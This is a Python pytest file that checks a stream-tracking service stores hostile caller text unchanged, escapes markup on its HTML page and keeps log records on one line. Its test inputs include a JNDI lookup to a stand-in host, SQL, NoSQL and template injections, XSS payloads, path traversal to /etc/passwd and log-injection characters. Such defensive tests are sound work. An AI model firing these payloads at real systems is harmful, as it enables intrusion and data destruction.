"""Text of callers is stored unchanged, and cannot break a page or a log."""

import json
import logging

import pytest

from streams_project.logs import JSONFormatter
from tests.viewer import Viewer

pytestmark = pytest.mark.usefixtures("service_unharmed")


@pytest.mark.parametrize(
    "text",
    [
        '") OR attribute_exists(leases) --',
        "#n0",
        ":lease",
        "<id>",
        "<replaced0>",
        '{"S":"x"}',
        '{"$ne":null}',
        "${jndi:ldap://evil.example}",
        "{{7*7}}",
        "%s%n%(name)s",
        "<script>alert(1)</script>",
        "'; DROP TABLE x; --",
        "../../etc/passwd",
        "=1+1",
        "é",
    ],
)
def test_hostile_text_is_stored_as_it_was_sent(viewer: Viewer, text: str) -> None:
    fields = {"deviceName": text, "title": text}
    started = viewer.started(text, deviceId="tv", **fields)
    kept = viewer.list()["streams"][0]

    assert {name: started[name] for name in ("streamId", *fields)} == {
        "streamId": text,
        **fields,
    }
    assert {name: kept[name] for name in ("streamId", *fields)} == {
        "streamId": text,
        **fields,
    }


def test_markup_in_text_is_escaped_on_a_page(viewer: Viewer) -> None:
    viewer.started(
        "<script>alert(1)</script>",
        deviceId="tv",
        title="</pre><img src=x onerror=alert(1)>",
    )
    page = viewer.api.get(viewer.url, headers={"Accept": "text/html"})

    assert page.status_code == 200
    assert "<script>alert" not in page.text
    assert "<img src=x" not in page.text


@pytest.mark.parametrize("text", ["a\nb", "a\r\nb", "\x1b[2Ja", "a\u2028b", "a\x00b"])
def test_a_log_record_is_one_line_for_any_text(text: str) -> None:
    record = logging.LogRecord("streams", logging.WARNING, "", 0, "%s", (text,), None)
    line = JSONFormatter().format(record)

    assert line.isascii()
    assert line.isprintable()
    assert json.loads(line)["message"] == text
